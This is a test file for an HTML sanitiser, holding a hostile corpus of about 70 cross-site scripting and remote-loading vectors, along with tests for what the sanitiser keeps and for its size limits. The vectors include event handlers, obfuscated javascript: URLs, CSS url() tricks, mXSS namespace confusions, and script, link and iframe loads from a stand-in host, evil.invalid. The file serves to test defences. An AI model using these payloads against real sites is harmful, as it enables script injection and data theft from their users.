import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Parser } from 'htmlparser2';
import { ALLOWED_ELEMENTS, GLOBAL_ATTRIBUTES } from '../../src/api/html/html-allowlist.js';
import { sanitizeStyle } from '../../src/api/html/sanitize-css.js';
import { PLACEHOLDER_CLASS, sanitizeHtml } from '../../src/api/html/sanitize-html.js';

/**
 * A hostile corpus: each vector tries to run script (every payload calls __pwned) or to load
 * something from the network (every remote address is on evil.invalid). The output is parsed
 * again and every element, attribute and style checked against the allowlist; no vector's
 * payload may survive anywhere but as inert text where the vector says so.
 */
interface Vector {
  name: string;
  html: string;
  /** Text that must still be there (what the reporter needs to read). */
  keeps?: string[];
  /** The payload may survive as escaped, inert text (an attribute value, a text node). */
  payloadAsText?: boolean;
}

const P = "__pwned('x')";
const VECTORS: Vector[] = [
  {
    name: 'script element',
    html: `<p>before</p><script>${P}</script><p>after</p>`,
    keeps: ['before', 'after'],
  },
  { name: 'script mixed case', html: `<ScRiPt>${P}</sCrIpT>ok`, keeps: ['ok'] },
  { name: 'script with src', html: '<script src="http://evil.invalid/x.js"></script>' },
  { name: 'script in attribute-less svg', html: `<svg><script>${P}</script></svg>` },
  { name: 'img onerror', html: `<img src=x onerror="${P}">` },
  {
    name: 'img onload on a data image',
    html: `<img src="data:image/png;base64,iVBORw0KGgo=" onload="${P}">`,
  },
  { name: 'body onload', html: `<body onload="${P}">body text</body>`, keeps: ['body text'] },
  { name: 'svg onload', html: `<svg onload="${P}"><circle r="1"/></svg>` },
  {
    name: 'math with mglyph/style (mXSS)',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
  },
  { name: 'javascript: href', html: `<a href="javascript:${P}">click</a>`, keeps: ['click'] },
  {
    name: 'entity-encoded javascript: href',
    html: `<a href="&#106;&#97;&#118;ascript:${P}">e</a>`,
    keeps: ['e'],
  },
  { name: 'hex-entity and tab in javascript: href', html: `<a href="&#x6A;ava&#9;script:${P}">t</a>` },
  { name: 'mixed-case JaVaScRiPt: href', html: `<a href="  JaVaScRiPt:${P}">m</a>` },
  { name: 'vbscript: href', html: `<a href="vbscript:msgbox(1)">v</a>` },
  { name: 'data:text/html href', html: `<a href="data:text/html,<script>${P}</script>">d</a>` },
  { name: 'javascript: img src', html: `<img src="javascript:${P}">` },
  { name: 'data:text/html img src', html: `<img src="data:text/html;base64,PHNjcmlwdD4=">` },
  {
    name: 'data:image/svg+xml img src',
    html: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  },
  { name: 'protocol-relative img src', html: '<img src="//evil.invalid/pixel.gif">' },
  {
    name: 'srcset',
    html: '<img srcset="http://evil.invalid/a.png 2x" src="data:image/gif;base64,R0lGOD==">',
  },
  {
    name: 'formaction',
    html: `<form><button formaction="javascript:${P}">Send</button></form>`,
    keeps: ['Send'],
  },
  {
    name: 'form action and inputs',
    html: '<form action="http://evil.invalid/f" method=post><input name=a value=b><select><option>o</select></form>',
  },
  {
    name: 'table background',
    html: '<table background="http://evil.invalid/t.png"><tr><td>cell</td></tr></table>',
    keeps: ['cell'],
  },
  {
    name: 'td background and bgcolor',
    html: '<table><tr><td background="http://evil.invalid/c.png" bgcolor="#ff0000">c</td></tr></table>',
  },
  {
    name: 'CSS url()',
    html: '<div style="background-image: url(http://evil.invalid/bg.png); color: red">s</div>',
  },
  { name: 'CSS expression()', html: `<div style="width: expression(${P})">s</div>` },
  {
    name: 'CSS @import in style element',
    html: '<style>@import url(http://evil.invalid/x.css);</style><p>x</p>',
  },
  {
    name: 'CSS behavior and -moz-binding',
    html: '<p style="behavior: url(x.htc); -moz-binding: url(http://evil.invalid/x.xml#a)">b</p>',
  },
  { name: 'CSS escaped url', html: '<p style="background: u\\72 l(http://evil.invalid/e.png)">e</p>' },
  { name: 'CSS comment-split url', html: '<p style="background: u/**/rl(http://evil.invalid/c.png)">c</p>' },
  {
    name: 'CSS image-set',
    html: '<p style="background-image: image-set(\'http://evil.invalid/i.png\' 1x)">i</p>',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=http://evil.invalid/r"><p>m</p>' },
  { name: 'base href', html: '<base href="http://evil.invalid/"><img src="p.gif">' },
  { name: 'link prefetch', html: '<link rel="prefetch" href="http://evil.invalid/p">' },
  {
    name: 'link dns-prefetch and preconnect',
    html: '<link rel="dns-prefetch" href="//dns.evil.invalid"><link rel=preconnect href="http://evil.invalid">',
  },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="http://evil.invalid/s.css">' },
  {
    name: 'a ping',
    html: '<a href="https://example.org/" ping="http://evil.invalid/ping">ok</a>',
    keeps: ['ok'],
  },
  {
    name: 'object data',
    html: `<object data="javascript:${P}"></object><object data="http://evil.invalid/o.swf"></object>`,
  },
  { name: 'embed src', html: '<embed src="http://evil.invalid/e.swf">' },
  {
    name: 'iframe src and srcdoc',
    html: `<iframe src="http://evil.invalid/"></iframe><iframe srcdoc="<script>${P}</script>"></iframe>`,
  },
  { name: 'frameset', html: `<frameset onload="${P}"><frame src="javascript:${P}"></frameset>` },
  { name: 'isindex', html: `<isindex action="javascript:${P}" type=image src=x onerror="${P}">` },
  { name: 'keygen', html: `<keygen autofocus onfocus="${P}">` },
  { name: 'template', html: `<template><img src=x onerror="${P}"></template>` },
  {
    name: 'nested noscript',
    html: `<noscript><noscript><p title="</noscript><img src=x onerror=${P}>"></p></noscript></noscript>`,
  },
  { name: 'comment trick <!-->', html: `<!--><script>${P}</script>-->` },
  { name: 'conditional comment', html: `<!--[if IE]><script>${P}</script><![endif]-->` },
  { name: 'CDATA', html: `<![CDATA[<script>${P}</script>]]>` },
  { name: 'null byte in tag name', html: `<scr\u0000ipt>${P}</scr\u0000ipt>`, payloadAsText: true },
  { name: 'null byte in attribute name', html: `<img src=x o\u0000nerror="${P}">` },
  { name: 'unclosed tags', html: '<div><b><i>open', keeps: ['open'] },
  { name: 'unclosed attribute', html: `<img src="x onerror=${P}` },
  { name: 'mXSS svg/style/title', html: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  {
    name: 'mXSS form/math namespace confusion',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
  },
  { name: 'mXSS noscript title', html: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { name: 'xmp', html: `<xmp><p title="</xmp><img src=x onerror=${P}>"></xmp>` },
  { name: 'textarea', html: `<textarea><img src=x onerror=${P}></textarea>` },
  { name: 'title element', html: `<title><img src=x onerror=${P}></title>` },
  { name: 'style element', html: `<style><img src=x onerror=${P}></style>` },
  {
    name: 'video poster and source',
    html: `<video poster="http://evil.invalid/p.png"><source src=x onerror="${P}"></video>`,
  },
  { name: 'audio', html: `<audio src=x onerror="${P}" autoplay></audio>` },
  { name: 'xlink:href', html: `<a xlink:href="javascript:${P}">x</a>` },
  { name: 'details ontoggle', html: `<details open ontoggle="${P}"><summary>s</summary></details>` },
  { name: 'marquee onstart', html: `<marquee onstart="${P}">moving</marquee>`, keeps: ['moving'] },
  {
    name: 'quote breaking in an attribute',
    html: `<p title='a" onmouseover="${P}'>t</p>`,
    payloadAsText: true,
  },
  { name: 'id, class and name (DOM clobbering)', html: '<div id="location" class="x" name="y">d</div>' },
  { name: 'image element (an alias of img)', html: '<image src="http://evil.invalid/i.png">' },
  { name: 'input image', html: '<input type=image src="http://evil.invalid/i.png">' },
  { name: 'a with target and download', html: '<a href="https://example.org/" target="_top" download>t</a>' },
  {
    name: 'font with handlers',
    html: `<font color="red" face="Arial" onmouseover="${P}">f</font>`,
    keeps: ['<font color="red" face="Arial">f</font>'],
  },
  {
    name: 'script in a text-only context',
    html: `<p>&lt;script&gt;${P}&lt;/script&gt;</p>`,
    payloadAsText: true,
  },
];

/** Attributes only ever written by the sanitiser itself. */
const OURS: Record<string, Set<string>> = { img: new Set(['src']), span: new Set(['class']) };
const FORBIDDEN_IN_STYLE = /url|expression|import|javascript|behavior|binding|http|\\|image/i;

function checkOutput(html: string, where: string): void {
  const problems: string[] = [];
  new Parser(
    {
      onopentag(name, attribs) {
        const own = ALLOWED_ELEMENTS[name];
        if (!own) problems.push(`element <${name}>`);
        for (const [key, value] of Object.entries(attribs)) {
          const allowed =
            key === 'style' ||
            (own && key in own) ||
            key in GLOBAL_ATTRIBUTES ||
            OURS[name]?.has(key) === true;
          if (!allowed) problems.push(`<${name} ${key}>`);
          if (/^on/i.test(key)) problems.push(`handler ${key}`);
          if (key === 'src' && !/^data:image\/(png|gif|jpeg|jpg|webp);base64,[A-Za-z0-9+/=]*$/.test(value))
            problems.push(`src ${value}`);
          if (key === 'class' && value !== PLACEHOLDER_CLASS) problems.push(`class ${value}`);
          if (key === 'style' && FORBIDDEN_IN_STYLE.test(value)) problems.push(`style ${value}`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: false, lowerCaseAttributeNames: false },
  ).end(html);
  assert.deepEqual(problems, [], `${where}: ${html}`);
}

void describe('Sanitiser - hostile corpus', () => {
  for (const v of VECTORS) {
    void test(`Sanitiser - ${v.name}`, () => {
      const { html } = sanitizeHtml(v.html);
      checkOutput(html, v.name);
      if (!v.payloadAsText)
        assert.doesNotMatch(html, /__pwned|evil\.invalid\/(?!.*remote image blocked)/, html);
      assert.doesNotMatch(html, /javascript:|vbscript:|data:text/i, html);
      for (const k of v.keeps ?? []) assert.ok(html.includes(k), `keeps ${k}: ${html}`);
      // Canonical: sanitising the output again changes nothing, so no second reading (a
      // browser's re-parse included) can find markup we did not write.
      assert.equal(sanitizeHtml(html).html, html);
    });
  }

  void test('Sanitiser - the corpus holds at least 40 vectors', () => {
    assert.ok(VECTORS.length >= 40, String(VECTORS.length));
  });
});

void describe('Sanitiser - what it keeps', () => {
  void test('Sanitiser - formatting, tables and lists survive with their plain attributes', () => {
    const input =
      '<h1>T</h1><p dir="rtl" align="center">a <b>b</b> <i>i</i> <u>u</u> <em>e</em> <strong>s</strong></p>' +
      '<table border="1" cellpadding="2" width="100%"><tr><th colspan="2">h</th></tr><tr><td valign="top" width="50">c</td></tr></table>' +
      '<ol start="3"><li>one</li></ol><ul type="square"><li>two</li></ul><blockquote>q</blockquote><pre>p  re</pre><hr width="50%">';
    assert.equal(sanitizeHtml(input).html, input.replace('<hr width="50%">', '<hr width="50%">'));
  });

  void test('Sanitiser - text is escaped, entities decoded once', () => {
    assert.equal(sanitizeHtml('a &lt;b&gt; &amp;amp; "q" & <').html, 'a &lt;b&gt; &amp;amp; "q" &amp; &lt;');
  });

  void test('Sanitiser - links keep their text and, for http, https and mailto, their target in the title', () => {
    assert.equal(
      sanitizeHtml('<a href="https://example.org/a?b=1&amp;c=2">x</a>').html,
      '<a title="https://example.org/a?b=1&amp;c=2">x</a>',
    );
    assert.equal(
      sanitizeHtml('<a href="mailto:a@example.org">m</a>').html,
      '<a title="mailto:a@example.org">m</a>',
    );
    assert.equal(sanitizeHtml('<a href="ftp://example.org/">f</a>').html, '<a>f</a>');
  });

  void test('Sanitiser - images: inline data kept, remote and cid: replaced by a placeholder naming the host', () => {
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    assert.equal(
      sanitizeHtml(`<img src="${data}" alt="a" width="10">`).html,
      `<img src="${data}" alt="a" width="10">`,
    );
    const r = sanitizeHtml(
      '<img src="https://track.example.com/p.gif?u=reporter"><img src="http://track.example.com/2">',
    );
    assert.match(r.html, /\[remote image blocked: track\.example\.com\]/);
    assert.deepEqual(r.blockedHosts, ['track.example.com']);
    assert.match(sanitizeHtml('<img src="cid:logo@x" alt="Logo">').html, /\[inline image: Logo\]/);
  });

  void test('Sanitiser - inline styles keep plain presentational declarations only', () => {
    assert.equal(
      sanitizeStyle('color: red; font-family: "Times New Roman", serif; margin: 0 auto'),
      'color: red; font-family: "Times New Roman", serif; margin: 0 auto',
    );
    assert.equal(sanitizeStyle('color: rgb(1, 2, 3); position: fixed; top: 0'), 'color: rgb(1, 2, 3)');
    assert.equal(sanitizeStyle('color: red; font-family: "unbalanced'), 'color: red');
    assert.equal(sanitizeStyle('color: r\\65 d'), '');
    assert.equal(sanitizeStyle(`color: red;${' '.repeat(5000)}`), '');
  });
});

void describe('Sanitiser - limits', () => {
  void test('Sanitiser - 100,000 nested elements: no stack overflow, depth capped, every tag closed', () => {
    const depth = 100_000;
    const input = '<div>'.repeat(depth) + 'deep' + '</div>'.repeat(depth);
    const { html } = sanitizeHtml(input);
    assert.ok(html.includes('deep'));
    const opened = html.split('<div>').length - 1;
    assert.equal(opened, 200);
    assert.equal(html.split('</div>').length - 1, opened);
  });

  void test('Sanitiser - output beyond the limit is cut, flagged, and still well formed', () => {
    const r = sanitizeHtml(`<div>${'<p>word</p>'.repeat(10_000)}</div>`, { maxOutputChars: 1000 });
    assert.equal(r.truncated, true);
    assert.ok(r.html.length < 1300);
    assert.ok(
      r.html.endsWith(
        '</div><p><span class="innsyn-blocked">[the rest of this HTML is not shown: it is too large]</span></p>',
      ),
    );
    assert.equal(sanitizeHtml(r.html).html, r.html);
  });

  void test('Sanitiser - input beyond the limit is cut and flagged', () => {
    const r = sanitizeHtml('<p>' + 'x'.repeat(100) + '</p>', { maxInputChars: 50 });
    assert.equal(r.truncated, true);
    assert.doesNotMatch(r.html, /x{60}/);
  });
});
